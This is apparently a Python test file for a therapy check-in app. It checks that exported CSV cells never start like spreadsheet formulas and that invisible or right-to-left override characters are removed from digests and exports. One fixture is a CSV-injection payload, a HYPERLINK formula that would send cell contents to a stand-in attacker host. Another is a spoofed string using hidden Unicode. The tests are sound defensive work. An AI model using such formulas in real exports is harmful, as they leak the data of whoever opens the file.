"""What a client writes comes back to the practice safely: a comment that is a spreadsheet formula
stays text in the CSV export, and invisible characters (a right-to-left override, zero widths)
never reach the digest or the export, even from rows stored before the rule existed."""

from __future__ import annotations

import asyncio
import csv
import io
import json

from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select

from app.export import CSV_COLUMNS, FORMULA_STARTS, spreadsheet_safe, to_csv
from flows.i18n import t
from storage.models import Answer, Client
from tests.e2e.harness import World, join_client
from tests.e2e.test_privacy import answer_checkin, cli
from tests.e2e.test_therapist import command

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"open")'
SPOOFED = "I feel \u202eyawa gniog\u202c better\u200b now\ufeff"


def csv_cells(out: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(out)))


async def test_a_formula_comment_is_text_in_the_csv_and_exact_in_the_json(
    world: World, sqlite_url: str
) -> None:
    dana = await world.join_therapist("Dana Lee")
    alice = await join_client(world, dana, "Alice Smith")
    await answer_checkin(world, alice, HYPERLINK)

    code, out = await asyncio.to_thread(
        cli, sqlite_url, "export", "--client", str(alice.id), "--format", "csv"
    )
    assert code == 0, out
    comments = [row["text"] for row in csv_cells(out) if row["item"] == "comment"]
    assert comments == ["'" + HYPERLINK]
    code, out = await asyncio.to_thread(cli, sqlite_url, "export", "--format", "json")
    texts = [a["text"] for c in json.loads(out)[0]["checkins"] for a in c["answers"] if a["text"]]
    assert texts == [HYPERLINK]


async def test_invisible_characters_never_reach_the_digest_or_the_export(
    world: World, sqlite_url: str
) -> None:
    dana = await world.join_therapist("Dana Lee")
    alice = await join_client(world, dana, "Alice Smith")
    await answer_checkin(world, alice, SPOOFED)
    seen = "I feel yawa gniog better now"
    async with world.rt.sessions() as s, s.begin():
        comments = [a for a in (await s.scalars(select(Answer))).all() if a.text_enc]
        assert [world.rt.cipher.decrypt(a.text_enc) for a in comments] == [seen]  # on the way in
        # A row stored before the rule existed holds the characters as written; the way out
        # cleans it too.
        comments[0].text_enc = world.rt.cipher.encrypt(SPOOFED)
    code, digest = await asyncio.to_thread(cli, sqlite_url, "digest", "--client", str(alice.id))
    assert code == 0, digest
    assert seen in digest and not {"\u202e", "\u202c", "\u200b", "\ufeff"} & set(digest)
    for fmt in ("csv", "json"):
        code, out = await asyncio.to_thread(cli, sqlite_url, "export", "--format", fmt)
        assert code == 0 and seen in out, out
        assert not {"\u202e", "\u202c", "\u200b", "\ufeff"} & set(out)


def test_every_formula_start_is_neutralised() -> None:
    for start in "=+-@\t":
        assert spreadsheet_safe(f"{start}1+1") == f"'{start}1+1"
    assert spreadsheet_safe("\r=1+1") == "\n=1+1"  # a carriage return is a line break first
    assert "\r" in FORMULA_STARTS
    assert spreadsheet_safe("\u200b=1+1") == "'=1+1"  # hidden behind an invisible character
    assert spreadsheet_safe("\u202e-2") == "'-2"
    assert spreadsheet_safe("fine = good") == "fine = good"
    assert spreadsheet_safe(7) == 7 and spreadsheet_safe(None) is None


def record(alias: str, text: str, item: str) -> dict[str, object]:
    answer = {"item": item, "value": None, "text": text, "answered_at": text}
    checkin = {"id": 1, "opened_at": text, "status": text, "answers": [answer]}
    return {"id": 1, "alias": alias, "checkins": [checkin]}


@given(st.text(), st.text(), st.text())
def test_no_exported_cell_starts_like_a_formula(alias: str, text: str, item: str) -> None:
    out = to_csv([record(alias, text, item)])
    rows = list(csv.reader(io.StringIO(out)))
    assert rows[0] == list(CSV_COLUMNS)
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


async def test_a_therapist_cannot_invite_an_invisible_name(world: World) -> None:
    dana = await world.join_therapist("Dana Lee")
    reply = await command(world, dana, "/invite \u200b\u202e\u2066")
    assert reply == t("en", "staff.invite_usage")
    async with world.rt.sessions() as s:
        assert (await s.scalars(select(Client))).all() == []
